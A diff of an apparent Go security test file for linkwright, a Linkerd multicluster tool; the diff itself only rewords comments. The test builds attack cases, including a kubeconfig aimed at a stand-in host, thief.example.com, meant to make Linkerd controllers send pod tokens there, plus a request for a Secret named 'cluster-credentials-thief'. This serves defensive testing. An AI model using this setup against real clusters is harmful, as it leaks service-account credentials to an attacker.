@@ -10,7 +10,7 @@ import (
 	"github.com/linkwright/linkwright/render/linkerd"
 )
 
-// theirs is where a thief of linkwright's account would have Linkerd's controllers send the tokens of their own pods.
+// theirs returns where a thief of linkwright's account would have Linkerd's controllers send the tokens of their own pods.
 func theirs() string { return kubeconfig("https://thief.example.com", "ca", "token") }
 
 func kubeconfig(server, ca, token string) string {
@@ -60,7 +60,7 @@ func kubeconfigAttacks() (out []attack) {
 	)
 }
 
-// credential is the request that makes a service mirror's Secret.
+// credential returns the request that makes a service mirror's Secret.
 func credential(aim, field, kubeconfig string) attack {
 	body, _ := json.Marshal(map[string]any{ //nolint:errchkjson // strings encode
 		"metadata": map[string]any{"name": "cluster-credentials-thief"}, "type": linkerd.KubeconfigSecretType,
@@ -69,7 +69,7 @@ func credential(aim, field, kubeconfig string) attack {
 	return attack{aim, resource("", "secrets"), testbed.Multicluster, "", "", "create", string(body)}
 }
 
-// credentials are what linkwright writes, also with a bundle of many certificates.
+// credentials returns what linkwright writes, also with a bundle of many certificates.
 func credentials() (out []attack) {
 	for _, ca := range []string{"", "ca", strings.Repeat("c", 24<<10)} {
 		raw := kubeconfig("https://east.example.com:6443", ca, strings.Repeat("t", 1200))
